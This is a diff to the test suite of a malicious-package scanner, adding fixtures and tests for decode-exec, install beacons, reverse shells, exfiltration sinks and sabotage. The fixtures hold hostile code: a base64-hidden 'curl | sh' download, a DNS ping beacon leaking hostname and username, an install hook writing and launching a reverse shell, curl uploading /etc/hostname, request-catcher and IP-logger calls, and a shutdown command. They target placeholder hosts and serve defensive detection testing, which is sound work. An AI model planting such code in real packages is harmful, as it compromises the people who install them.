@@ -203,8 +203,59 @@ def test_decode_exec_fires(tmp_path: Path, scanner: Scanner, writer: Callable[..
     assert any(f.line == 3 and "b64decode" in f.snippet for f in found), describe(result)
 
 
-def test_decode_exec_benign_uncalled_function(tmp_path: Path, scanner: Scanner) -> None:
+def test_decode_exec_fires_for_hidden_payload_in_uncalled_function(tmp_path: Path, scanner: Scanner) -> None:
+    # An encoded literal executed anywhere is code hidden from review, called or not.
     result = scan(write_sdist(tmp_path, {INIT: DECODE_EXEC_UNCALLED}), scanner)
+    assert_fires(result, "decode-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith=INIT)
+
+
+DECODE_EXEC_RUNTIME_DATA = """import base64
+
+
+def run_snippet(encoded):
+    exec(base64.b64decode(encoded))
+"""
+
+
+def test_decode_exec_benign_runtime_data_when_called(tmp_path: Path, scanner: Scanner) -> None:
+    # Decoding what the caller passes in (a notebook cell, an RPC body) hides nothing in the package.
+    result = scan(write_sdist(tmp_path, {INIT: DECODE_EXEC_RUNTIME_DATA}), scanner)
+    assert_quiet(result, "decode-exec", not_verdict=Verdict.MALICIOUS, below=Severity.CRITICAL)
+
+
+DECODED_COMMAND_LIBRARY = f"""import base64
+import subprocess
+
+
+def unb64(text):
+    return base64.b64decode(text).decode()
+
+
+def refresh():
+    command = [unb64("{b64("curl -s http://127.0.0.1:9/x.sh | sh")}")]
+    subprocess.Popen(command, shell=True)
+"""
+DECODED_VERSION_LIBRARY = f"""import base64
+import subprocess
+
+
+def unb64(text):
+    return base64.b64decode(text).decode()
+
+
+def version():
+    command = [unb64("{b64("git describe --tags")}")]
+    return subprocess.run(command, capture_output=True)
+"""
+
+
+def test_decode_exec_fires_for_hidden_download_command(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/tool.py": DECODED_COMMAND_LIBRARY}), scanner)
+    assert_fires(result, "decode-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL)
+
+
+def test_decode_exec_benign_hidden_command_without_download(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/tool.py": DECODED_VERSION_LIBRARY}), scanner)
     assert_quiet(result, "decode-exec", not_verdict=Verdict.MALICIOUS, below=Severity.CRITICAL)
 
 
@@ -406,6 +457,138 @@ def test_install_beacon_fires_in_npm_postinstall(tmp_path: Path, scanner: Scanne
 def test_install_beacon_benign_library(tmp_path: Path, scanner: Scanner) -> None:
     result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/telemetry.py": TELEMETRY_LIBRARY}), scanner)
     assert_quiet(result, "install-beacon")
+
+
+# Dependency-confusion probe: identity hex-encoded into DNS labels, looked up by `ping`.
+DNS_PING_BEACON = """import getpass
+import os
+import socket
+
+data = "%s;%s" % (socket.gethostname(), getpass.getuser())
+encoded = ""
+for c in data[:30]:
+    encoded += "%02x" % ord(c)
+os.system("ping -c 1 %s.probe.example.invalid" % encoded)
+"""
+PING_HEALTHCHECK = """import os
+import socket
+
+host = socket.gethostname()
+os.system("logger started on %s" % host)
+os.system("ping -c 1 127.0.0.1")
+"""
+
+
+def test_install_beacon_fires_for_identity_in_ping_command(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {INIT: DNS_PING_BEACON}), scanner)
+    found = assert_fires(result, "install-beacon", Verdict.MALICIOUS, severity=Severity.CRITICAL)
+    assert any(f.line == 9 and "ping" in f.reason for f in found), describe(result)
+
+
+def test_install_beacon_benign_ping_without_identity(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {INIT: PING_HEALTHCHECK}), scanner)
+    assert_quiet(result, "install-beacon", not_verdict=Verdict.MALICIOUS)
+
+
+CATCHER_CALLED_BEACON = """import os
+import socket
+
+import requests
+
+
+def add(x, y):
+    requests.get("https://eo000000.x.pipedream.net/", params={"h": socket.gethostname(), "c": os.getcwd()})
+    return x + y
+"""
+OWN_SERVICE_CALLED_BEACON = """import socket
+
+import requests
+
+
+def register(server):
+    return requests.post(server + "/agents", json={"host": socket.gethostname()})
+"""
+
+
+def test_install_beacon_fires_for_catcher_when_called(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/calc.py": CATCHER_CALLED_BEACON}), scanner)
+    assert_fires(result, "install-beacon", Verdict.MALICIOUS, severity=Severity.CRITICAL)
+
+
+def test_install_beacon_benign_agent_registration(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/agent.py": OWN_SERVICE_CALLED_BEACON}), scanner)
+    assert_quiet(result, "install-beacon")
+
+
+SHELL_CODE = """import os, socket, subprocess
+s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+s.connect(("127.0.0.1", 9))
+os.dup2(s.fileno(), 0)
+os.dup2(s.fileno(), 1)
+subprocess.call(["/bin/sh", "-i"])
+"""
+WRITES_PROGRAM_SETUP = f"""import os
+import subprocess
+from setuptools import setup
+from setuptools.command.install import install
+
+CODE = {SHELL_CODE!r}
+
+
+class PostInstall(install):
+    def run(self):
+        install.run(self)
+        with open("helper.py", "w") as handle:
+            handle.write(CODE)
+        subprocess.Popen(["python3", os.path.expanduser("~/helper.py")])
+
+
+setup(name="fixturepkg", version="1.0.0", cmdclass={{"install": PostInstall}})
+"""
+WRITES_VERSION_SETUP = """from setuptools import setup
+
+TEMPLATE = "import os\\n__version__ = '1.0.0'\\n"
+with open("fixturepkg/_version.py", "w") as handle:
+    handle.write(TEMPLATE)
+setup(name="fixturepkg", version="1.0.0")
+"""
+
+
+def test_reverse_shell_fires_in_program_written_at_install(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, setup_py=WRITES_PROGRAM_SETUP), scanner)
+    assert_fires(result, "reverse-shell", Verdict.MALICIOUS, severity=Severity.CRITICAL)
+
+
+def test_written_version_module_is_benign(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, setup_py=WRITES_VERSION_SETUP), scanner)
+    assert_quiet(result, "reverse-shell", not_verdict=Verdict.SUSPICIOUS)
+
+
+CURL_UPLOAD_SETUP = setup_py('os.system("curl -F a=@/etc/hostname 192.0.2.1:9")\n', imports="import os\n")
+
+
+def test_install_process_fires_for_curl_upload(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, setup_py=CURL_UPLOAD_SETUP), scanner)
+    assert_fires(result, "install-process", Verdict.MALICIOUS, severity=Severity.CRITICAL)
+
+
+SABOTAGE_INIT = 'import os\n\nos.system("shutdown /s /t 0")\n'
+LEXER_KEYWORDS = """KEYWORDS = ["halt", "reboot", "poweroff", "shutdown"]
+
+
+def shutdown_server(proc):
+    proc.terminate()
+"""
+
+
+def test_sabotage_fires(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {INIT: SABOTAGE_INIT}), scanner)
+    assert_fires(result, "sabotage", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith=INIT)
+
+
+def test_sabotage_benign_keyword_list(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {INIT: LEXER_KEYWORDS}), scanner)
+    assert_quiet(result, "sabotage")
 
 
 ENCODED_PS = "SQBuAHYAbwBrAGUALQBOAG8AdABoAGkAbgBnAA=="  # UTF-16LE "Invoke-Nothing"
@@ -711,8 +894,20 @@ def share(text, key):
 
 
 def test_exfil_sink_fires(tmp_path: Path, scanner: Scanner) -> None:
+    # Posting anything to a request catcher while pip installs is the report-back of a probe.
     result = scan(write_sdist(tmp_path, setup_py=CATCHER_SETUP), scanner)
-    assert_fires(result, "exfil-sink", Verdict.SUSPICIOUS, severity=Severity.HIGH, file_endswith="setup.py")
+    assert_fires(result, "exfil-sink", Verdict.MALICIOUS, severity=Severity.HIGH, file_endswith="setup.py")
+    assert_fires(result, "secret-exfiltration", Verdict.MALICIOUS, severity=Severity.CRITICAL)
+
+
+IPLOGGER_SETUP = setup_py(
+    'urllib.request.urlopen("https://iplogger.org/1aBcD")\n', imports="import urllib.request\n"
+)
+
+
+def test_exfil_sink_fires_for_ip_logger_at_install(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, setup_py=IPLOGGER_SETUP), scanner)
+    assert_fires(result, "exfil-sink", Verdict.MALICIOUS, file_endswith="setup.py")
 
 
 def test_exfil_sink_benign_library(tmp_path: Path, scanner: Scanner) -> None:
@@ -1055,6 +1250,7 @@ POSITIVE_TESTS: dict[str, str] = {
     "install-network": "test_install_network_fires",
     "reverse-shell": "test_reverse_shell_fires",
     "cryptominer": "test_cryptominer_fires",
+    "sabotage": "test_sabotage_fires",
     "persistence": "test_persistence_fires",
     "exfil-sink": "test_exfil_sink_fires",
     "raw-ip-url": "test_raw_ip_url_fires",
